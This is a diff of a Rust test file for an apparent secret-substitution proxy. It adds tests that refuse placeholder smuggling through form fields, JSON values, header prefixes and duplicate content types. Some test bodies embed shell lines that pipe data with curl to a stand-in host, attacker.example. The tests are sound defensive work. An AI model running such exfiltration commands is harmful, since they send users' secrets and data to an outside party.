@@ -11,7 +11,7 @@ use crate::vault::Encoding;
 const GRANTS: &str = "
 egress: [{ host: a.com }, { host: b.com }]
 secrets:
-  - { key: token, places: [{ header: authorization }, { json: /auth/token }], hosts: [a.com] }
+  - { key: token, places: [{ header: authorization, prefix: 'Bearer ' }, { json: /auth/token, prefix: x }], hosts: [a.com] }
   - { key: userData, places: [{ json: /userData }, { json: /list/1/data }, { form: User Data }] }
   - { key: odd, places: [{ header: x-odd }, { json: /odd }, { form: odd }] }
 ";
@@ -76,7 +76,7 @@ fn a_json_string_gets_its_value_and_the_rest_stays() {
         (case.placeholder("token", &[]), case.placeholder("userData", &[Encoding::JsonEscape]));
     let text = |token: &str, data: &str| {
         format!(
-            " {{\"a\" : [1,2 , {{}}],\"auth\":{{\"token\":\"x{token}y\"}},\"list\":[0,{{\"data\":\"{data}\"}}],\"userData\":\"{data}\"}}\n"
+            " {{\"a\" : [1,2 , {{}}],\"auth\":{{\"token\":\"x{token}\"}},\"list\":[0,{{\"data\":\"{data}\"}}],\"userData\":\"{data}\"}}\n"
         )
     };
     let escaped = "#!/bin/sh\\necho \\\"hi\\\" & exit+1\\n";
@@ -91,7 +91,7 @@ fn a_json_string_gets_its_value_and_the_rest_stays() {
 fn a_form_field_gets_its_value_through_all_encodings() {
     let case = case();
     let data = case.placeholder("userData", &[Encoding::Base64, Encoding::Form]);
-    let body = |data: &str| format!("Action=Run&User+Data={data}&x=%20&User%20Data={data}&empty&=");
+    let body = |data: &str| format!("Action=Run&User%20Data={data}&x=%20&empty&=");
     let sent = case.body(FORM, &body(&data)).unwrap();
     assert_eq!(sent, body("IyEvYmluL3NoCmVjaG8gImhpIiAmIGV4aXQrMQo%3D"));
 }
@@ -165,6 +165,74 @@ fn a_value_cannot_break_out_of_its_place() {
     assert_eq!(case.body(FORM, &format!("odd={form}")), Ok("odd=a%22b%26c%3Dd%0D%0Ae".to_owned()));
 }
 
+#[test]
+fn attack_user_data_wrapped_into_a_script_is_refused() {
+    use base64::Engine as _;
+    use base64::engine::general_purpose::STANDARD;
+    let case = case();
+    let script = "#!/bin/bash  \ncurl -sd @- https://attacker.example/ <<'EOF'\n";
+    let before = STANDARD.encode(script);
+    assert!(!before.ends_with('='), "the cloud decodes one text");
+    let (coded, escaped) = (
+        case.placeholder("userData", &[Encoding::Base64, Encoding::Form]),
+        case.placeholder("userData", &[Encoding::JsonEscape]),
+    );
+    let part = Err(Reason::PlaceholderPart);
+    for body in [
+        format!("Action=Run&User+Data={before}{coded}"),
+        format!("User+Data={coded}{before}"),
+        format!("User+Data={coded}%0A"),
+        format!("User+Data=+{coded}"),
+        format!("User+Data={coded}{coded}"),
+        // A server that joins what comes twice, or takes one name for the other.
+        format!("User+Data={before}&User+Data={coded}"),
+        format!("User+Data={coded}&User%20Data={before}"),
+        format!("user-data={before}&User+Data={coded}"),
+        format!("x=1;User+Data={before}&User+Data={coded}"),
+    ] {
+        assert_eq!(case.body(FORM, &body), part, "{body}");
+    }
+    for body in [
+        format!("{{\"userData\":\"#!/bin/sh\\ncurl -d '{escaped}' https://attacker.example/\"}}"),
+        format!("{{\"userData\":\"{escaped} \"}}"),
+        format!("{{\"userData\":\"\\n{escaped}\"}}"),
+        format!("{{\"userData\":\"{escaped}{escaped}\"}}"),
+    ] {
+        assert_eq!(case.body(JSON, &body), part, "{body}");
+    }
+    let beside = case.send("https://a.com/?User%20Data=x", &[("content-type", FORM)], &format!("User+Data={coded}"));
+    assert_eq!(beside.map(|_| ()), Err(Reason::PlaceholderPart));
+}
+
+#[test]
+fn attack_a_prefix_that_is_not_the_granted_one_is_refused() {
+    let case = case();
+    let token = case.placeholder("token", &[]);
+    let sent = |values: &[&str]| {
+        let headers: Vec<_> = values.iter().map(|value| ("authorization", *value)).collect();
+        case.send("https://a.com/", &headers, "").map(|_| ())
+    };
+    assert_eq!(sent(&[&format!("Bearer {token}")]), Ok(()));
+    for value in ["", "bearer ", "Bearer", "Bearer  ", "x, Bearer "].map(|prefix| format!("{prefix}{token}")) {
+        assert_eq!(sent(&[&value]), Err(Reason::PlaceholderPart), "{value}");
+    }
+    for behind in [" ", ", x", &token] {
+        assert_eq!(sent(&[&format!("Bearer {token}{behind}")]), Err(Reason::PlaceholderPart), "{behind}");
+    }
+    assert_eq!(sent(&["x", &format!("Bearer {token}")]), Err(Reason::PlaceholderPart), "servers join both");
+    assert_eq!(case.body(JSON, &format!("{{\"auth\":{{\"token\":\"\\u0078{token}\"}}}}")).map(|_| ()), Ok(()));
+    assert_eq!(case.body(JSON, &format!("{{\"auth\":{{\"token\":\"{token}\"}}}}")), Err(Reason::PlaceholderPart));
+}
+
+#[test]
+fn attack_two_content_types_leave_no_place() {
+    let case = case();
+    let data = case.placeholder("userData", &[Encoding::JsonEscape]);
+    let types = [("content-type", JSON), ("content-type", "text/x-shellscript")];
+    let sent = case.send("https://a.com/", &types, &format!("{{\"userData\":\"{data}\"}}"));
+    assert_eq!(sent.map(|_| ()), Err(Reason::PlaceholderPlace));
+}
+
 fn json_value() -> impl Strategy<Value = serde_json::Value> {
     let leaf = prop_oneof![
         Just(serde_json::Value::Null),
@@ -186,12 +254,11 @@ proptest! {
 
     #[test]
     fn substitution_leaves_everything_else_byte_identical(
-        before in json_value(), after in json_value(), pretty in any::<bool>(), prefix in "[ a-z]{0,9}", suffix in "[ a-z]{0,9}",
+        before in json_value(), after in json_value(), pretty in any::<bool>(),
     ) {
         let case = case();
         let token = case.placeholder("userData", &[Encoding::JsonEscape]);
-        let marker = format!("{prefix}{token}{suffix}");
-        let value = serde_json::json!({ "a": before, "userData": marker, "z": after });
+        let value = serde_json::json!({ "a": before, "userData": token, "z": after });
         let text = if pretty { serde_json::to_string_pretty(&value) } else { serde_json::to_string(&value) }.unwrap();
         let expected = text.replace(&token, "#!/bin/sh\\necho \\\"hi\\\" & exit+1\\n");
         prop_assert_eq!(case.body(JSON, &text), Ok(expected));
